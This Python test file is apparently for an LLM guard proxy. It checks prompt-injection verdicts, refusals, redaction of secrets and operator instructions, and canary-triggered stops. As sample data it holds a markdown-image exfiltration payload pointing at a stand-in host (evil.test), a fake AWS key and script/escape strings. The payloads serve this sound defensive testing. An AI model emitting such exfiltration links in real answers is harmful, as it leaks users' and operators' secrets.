"""The way back: an answer and a verdict about the same request, and nothing else."""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import asdict
from itertools import pairwise
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from triton_fakes import SECRET, MakeInput, bytes_tensor, chat, completion

from vauban.errors import MalformedRequest
from vauban.hosts.triton.answers import Blocked, Failed
from vauban.hosts.triton.encoder import VERDICT
from vauban.hosts.triton.front import Terms
from vauban.hosts.triton.output import GuardOutput, Jobs, Outgoing
from vauban.hosts.triton.seal import Bundle, Seal
from vauban.mark import RESERVED_KEY, Order, Sealer
from vauban.policy import Policy
from vauban.text.sanitize import Sanitizer
from vauban.types import Reason

KEY = "AKIA" + "Q3EGRSEX7PLMNBVC"
TOLD = "the code of the staff door changes on the first Monday of each month"
CANARY = "k7w2m9x4q8r5t3z6"
POLICY = Policy.model_validate({"audit": {"log": "off"}, "output": {"prompt_words": 8}})


def guard_output(seal: Seal, **sections: Any) -> GuardOutput:
    return GuardOutput(Policy.model_validate({"audit": {"log": "off"}, **sections}), seal)


def terms(repeat: str = "", *options: str) -> Terms:
    return Terms("key:a", repeat, options, [TOLD], [CANARY])


def outgoing(policy: Policy = POLICY, repeat: str = "", *options: str) -> Outgoing:
    asked = terms(repeat, *options)
    return Outgoing(asked, Sanitizer(policy.output, asked.told, asked.canaries))


def streamed(answer: Outgoing, pieces: Sequence[str], reason: str = "") -> tuple[str, list[str]]:
    """The text that came out, and the reasons that were told."""
    text, reasons = "", []
    for number, piece in enumerate(pieces):
        part: dict[str, Any] = {"text_output": [piece]}
        if reason:
            part["finish_reason"] = [reason if number == len(pieces) - 1 else "None"]
        out = answer.part(part)
        text, reasons = text + "".join(out["text_output"]), [*out.get("finish_reason", ())]
        if answer.stopped:
            return text, reasons
    rest = answer.end() or {}
    return text + "".join(rest.get("text_output", ())), [*rest.get("finish_reason", reasons)]


@pytest.fixture
def jobs(seal: Seal) -> Jobs:
    return Jobs(seal, Sealer(SECRET))


def verdict(seal: Seal, ticket: str, *, blocked: bool = False) -> bytes:
    fields = {"blocked": blocked, "reason": "prompt_injection", "score": 0.0}
    return seal.close(VERDICT, Bundle(ticket, fields))


def test_the_llm_is_told_that_the_verdict_is_made(make_input: MakeInput, jobs: Jobs) -> None:
    job = jobs.open(make_input()(completion("hello", max_tokens=3), "")[0])
    sampling = json.loads(job.inputs["sampling_parameters"])
    mark = Sealer(SECRET).open_mark(sampling["extra_args"][RESERVED_KEY])
    assert mark is not None
    assert mark.order is Order.PASS
    assert sampling["max_tokens"] == 3
    assert job.inputs["text_input"] == "hello"
    assert job.inputs["exclude_input_in_output"] is True
    assert job.terms.repeat == "hello"


def test_a_prompt_is_served_once(make_input: MakeInput, jobs: Jobs) -> None:
    sealed = make_input()(completion("hello"), "")[0]
    jobs.open(sealed)
    with pytest.raises(MalformedRequest):
        jobs.open(sealed)


def test_an_answer_comes_out_with_its_own_verdict_only(
    make_input: MakeInput, seal: Seal, jobs: Jobs
) -> None:
    output = guard_output(seal)
    asked = completion("hello ") | {"return_finish_reason": np.array([True])}
    job = jobs.open(make_input()(asked, "")[0])
    answer = jobs.close(job, {"text_output": ["there"], "finish_reason": ["stop"]})
    assert b"there" not in answer
    passed = output(verdict(seal, job.ticket), answer)
    assert passed == {"text_output": ["hello there"], "finish_reason": ["stop"]}
    for other in (verdict(seal, "another"), b"", answer):
        with pytest.raises(MalformedRequest):
            output(other, answer)


def test_an_answer_may_take_longer_than_a_prompt_may_wait() -> None:
    now = [1000.0]
    seal = Seal(SECRET, lambda: now[0])
    fields = {"text": "a", "sampling": {}, "stream": False, "salt": "", "terms": asdict(terms())}
    job = Jobs(seal, Sealer(SECRET)).open(seal.close("prompt", Bundle("t", fields)))
    judged = verdict(seal, job.ticket)
    now[0] += 3600
    answer = Jobs(seal, Sealer(SECRET)).close(job, {"text_output": ["done"]})
    assert guard_output(seal)(judged, answer) == {"text_output": ["done"]}


def test_a_blocked_answer_is_an_error(make_input: MakeInput, seal: Seal, jobs: Jobs) -> None:
    job = jobs.open(make_input()(completion("hello "), "")[0])
    judged = verdict(seal, job.ticket, blocked=True)
    for answer in (jobs.close(job, {"text_output": ["there"]}), jobs.fail(job, ValueError())):
        with pytest.raises(Blocked) as caught:
            guard_output(seal)(judged, answer)
        assert caught.value.reason is Reason.PROMPT_INJECTION


@pytest.mark.parametrize(
    ("error", "told"),
    [
        (Failed("no room", "UNAVAILABLE"), Failed("no room", "UNAVAILABLE")),
        (MalformedRequest("bad"), Failed("[malformed_request] bad", "INVALID_ARG")),
        (ValueError("of the prompt"), Failed("[internal_error] the request failed", "INTERNAL")),
    ],
)
def test_why_there_is_no_answer_is_told_after_the_verdict(
    make_input: MakeInput, seal: Seal, jobs: Jobs, error: Exception, told: Failed
) -> None:
    job = jobs.open(make_input()(completion("hello "), "")[0])
    with pytest.raises(Failed) as caught:
        guard_output(seal)(verdict(seal, job.ticket), jobs.fail(job, error))
    assert (caught.value.message, caught.value.code) == (told.message, told.code)


def test_a_blocked_answer_is_replaced(make_input: MakeInput, seal: Seal, jobs: Jobs) -> None:
    output = guard_output(seal, answer={"blocked": "refusal", "refusal": "No."})
    job = jobs.open(make_input()(completion("hello "), "")[0])
    answer = jobs.close(job, {"text_output": ["there"]})
    passed = output(verdict(seal, job.ticket, blocked=True), answer)
    assert passed["text_output"] == ["No."]


WORDS = st.sampled_from([KEY, TOLD, "![a](https://evil.test/?d=c2VjcmV0)", "<script>x</script>",
                         "sloop", "\x1b[2J", "a harbour", "`", "é"])  # fmt: skip


@given(st.lists(WORDS, max_size=8), st.data(), st.sampled_from(["", "stop"]))
def test_any_chunking_says_the_same_as_the_whole(
    words: list[str], data: st.DataObject, reason: str
) -> None:
    text = " ".join(words)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    places = [0, *cuts, len(text)]
    pieces = [text[a:b] for a, b in pairwise(places)]
    whole = streamed(outgoing(), [text], reason)
    assert streamed(outgoing(), pieces, reason) == whole
    assert KEY not in whole[0]
    assert TOLD not in whole[0]


@pytest.mark.parametrize("pieces", [1, 5])
@pytest.mark.parametrize("reason", ["", "length"])
def test_a_stop_ends_the_answer(pieces: int, reason: str) -> None:
    said = f"it reads {CANARY} and a hundred words more " + "x" * 200
    size = -(-len(said) // pieces)
    cut = [said[n : n + size] for n in range(0, len(said), size)]
    answer = outgoing()
    assert streamed(answer, cut, reason) == ("it reads ", ["content_filter"])
    assert answer.findings == {("canary", "stop"): 1}


def test_a_stop_at_the_very_end_is_one() -> None:
    answer = outgoing()
    assert streamed(answer, ["it reads ", CANARY]) == ("it reads ", ["content_filter"])
    assert answer.stopped


def test_each_text_of_an_answer_is_read_by_itself() -> None:
    answer = outgoing(POLICY, "", "return_finish_reason")
    passed = answer.part(
        {
            "text_output": [f"a {CANARY}", f"b {KEY}", "c"],
            "finish_reason": ["stop", "length", "stop"],
        }
    )
    assert passed["text_output"] == ["a ", "b [redacted: secrets]", "c"]
    assert passed["finish_reason"] == ["content_filter", "length", "stop"]


def test_what_the_client_sent_first_is_read_with_the_answer() -> None:
    """Half of a picture in the prompt, and the other half in the answer, make one."""
    answer = outgoing(POLICY, "![a](https://evil.test/?d=")
    assert "evil.test" not in streamed(answer, ["c2VjcmV0) so"])[0]


def test_a_client_gets_what_it_asked_for() -> None:
    part = {"text_output": ["a"], "finish_reason": ["stop"], "num_output_tokens": [1]}
    assert outgoing().part(part) == {"text_output": ["a"]}
    asked = outgoing(POLICY, "", "return_num_output_tokens")
    assert asked.part(part) == {"text_output": ["a"], "num_output_tokens": [1]}


def test_findings_are_counted_and_audited(
    seal: Seal, jobs: Jobs, make_input: MakeInput, tmp_path: Path
) -> None:
    seen: list[Any] = []
    log = tmp_path / "audit.log"
    policy = Policy.model_validate({"audit": {"log": str(log)}})
    output = GuardOutput(policy, seal, seen.append)
    job = jobs.open(make_input()(completion("say "), "")[0])
    answer = jobs.close(job, {"text_output": [f"it is {KEY}"]})
    passed = output(verdict(seal, job.ticket), answer)
    assert passed == {"text_output": ["say it is [redacted: secrets]"]}
    assert seen == [{("secrets", "redact"): 1}]
    event = json.loads(log.read_text())
    assert event["event"] == "output"
    assert event["request_id"] == job.ticket
    assert event["principal"] == job.terms.principal
    assert event["findings"] == {"secrets.redact": 1}
    assert KEY not in log.read_text()


def test_the_operators_words_are_told_to_the_way_back(make_input: MakeInput, jobs: Jobs) -> None:
    instruction = "You answer for the harbour library and for nobody else."
    job = jobs.open(make_input(sandwich={"instruction": instruction})(chat(("user", "hi")), "")[0])
    assert job.terms.told == [instruction]
    (canary,) = job.terms.canaries
    assert f"[ref {canary}]" in job.inputs["text_input"]
    assert jobs.open(make_input()(chat(("user", "hi")), "")[0]).terms.canaries == []


def test_everybody_has_a_salt_of_their_own(make_input: MakeInput, jobs: Jobs) -> None:
    trusted = make_input(identity={"trusted_network": True})

    def salt(name: str) -> str:
        asked = completion("hello") | {"principal": bytes_tensor(name)}
        return jobs.open(trusted(asked, "")[0]).salt

    assert salt("a") == salt("a") != salt("b")
    off = make_input(output={"cache_salt": "off"})
    assert jobs.open(off(completion("hello"), "")[0]).salt == ""
